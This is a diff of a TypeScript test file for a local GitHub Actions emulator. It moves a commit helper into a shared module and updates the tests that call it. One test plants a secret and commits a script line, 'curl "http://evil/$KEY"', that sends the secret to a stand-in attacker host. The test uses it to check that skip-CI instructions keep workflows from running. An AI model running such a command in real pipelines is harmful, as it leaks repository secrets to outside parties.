@@ -5,6 +5,7 @@ import { expect, test } from 'vitest';
 import { setSetting } from '../../src/local/github/actions/run/settings.ts';
 import { startLocalGitHub } from '../../src/local/github/start.ts';
 import { ActionsWorld, workflow } from '../support/actions-world.ts';
+import { commitFile } from '../support/commit-file.ts';
 
 const CI = workflow(`name: CI
 on: [push, pull_request]
@@ -17,35 +18,10 @@ jobs:
         run: echo "$GITHUB_EVENT_NAME $GITHUB_REF_NAME key=\${#KEY}" && sh test.sh
 `);
 
-/** Commits a file to a branch over REST. */
-async function commit(
-  world: ActionsWorld,
-  branch: string,
-  path: string,
-  content: string,
-  message: string,
-): Promise<string> {
-  const { git } = world.octokit.rest;
-  const find = (ref: string) =>
-    git.getRef({ ...world.at, ref: `heads/${ref}` }).then(
-      ({ data }) => data.object.sha,
-      () => null,
-    );
-  const existing = await find(branch);
-  const parent = existing ?? (await find('main'))!;
-  const base = (await git.getCommit({ ...world.at, commit_sha: parent })).data.tree.sha;
-  const tree = [{ path, content, mode: '100644', type: 'blob' } as const];
-  const made = (await git.createTree({ ...world.at, base_tree: base, tree })).data.sha;
-  const { sha } = (await git.createCommit({ ...world.at, message, tree: made, parents: [parent] })).data;
-  if (existing) await git.updateRef({ ...world.at, ref: `heads/${branch}`, sha });
-  else await git.createRef({ ...world.at, ref: `refs/heads/${branch}`, sha });
-  return sha;
-}
-
 test("the repository's own workflows run on push and pull request, on the merge of the two", async () => {
   await using world = await ActionsWorld.start({ ...CI, 'test.sh': 'exit 1' });
-  await commit(world, 'feature', 'test.sh', 'echo feature', 'A feature');
-  await commit(world, 'main', 'other', '', 'Meanwhile');
+  await commitFile(world, 'feature', 'test.sh', 'echo feature', 'A feature');
+  await commitFile(world, 'main', 'other', '', 'Meanwhile');
   const { data: pull } = await world.octokit.rest.pulls.create({
     ...world.at,
     title: 'Feature',
@@ -76,12 +52,18 @@ test("the repository's own workflows run on push and pull request, on the merge 
 test('skip instructions keep variants from running: no workflow sees a planted secret', async () => {
   await using world = await ActionsWorld.start({ ...CI, 'test.sh': 'exit 0' });
   setSetting(world.github.actions, 'secret', world.github.setup.repository('octo', 'agent'), 'KEY', 'planted');
-  await commit(world, 'v1', 'test.sh', 'curl "http://evil/$KEY"', 'v1: change\n\n\nHuxley-Run: r1\nskip-checks: true');
+  await commitFile(
+    world,
+    'v1',
+    'test.sh',
+    'curl "http://evil/$KEY"',
+    'v1: change\n\n\nHuxley-Run: r1\nskip-checks: true',
+  );
   await world.octokit.rest.pulls.create({ ...world.at, title: 'v1', head: 'v1', base: 'main' });
-  await commit(world, 'v2', 'test.sh', 'exit 0', 'v2 [skip ci]');
+  await commitFile(world, 'v2', 'test.sh', 'exit 0', 'v2 [skip ci]');
   await world.settled();
   expect(await world.runs()).toEqual([]);
-  await commit(world, 'v3', 'test.sh', 'exit 0', 'v3: not skipped');
+  await commitFile(world, 'v3', 'test.sh', 'exit 0', 'v3: not skipped');
   await world.settled();
   expect(await world.log(1)).toContain('push v3 key=7');
 });
@@ -100,7 +82,7 @@ jobs:
           echo more >> file && git add file && git commit -qm 'By the job' && git push -q origin HEAD:refs/heads/by-job
 `),
   });
-  await commit(world, 'main', 'file', 'x', 'By a person');
+  await commitFile(world, 'main', 'file', 'x', 'By a person');
   await world.settled();
   expect(await world.runs()).toEqual(['push By a person: success']);
   const { data } = await world.octokit.rest.repos.getBranch({ ...world.at, branch: 'by-job' });
@@ -132,7 +114,7 @@ jobs:
   await world.settled();
   expect(await world.jobs(run)).toEqual(['first: success', 'second: failure', 'third: skipped', 'last: success']);
   expect((await world.run(run)).conclusion).toBe('failure');
-  await commit(world, 'main', 'x', '', 'Push');
+  await commitFile(world, 'main', 'x', '', 'Push');
   await world.settled();
   expect(await world.runs()).toContain('push Push: failure');
 });
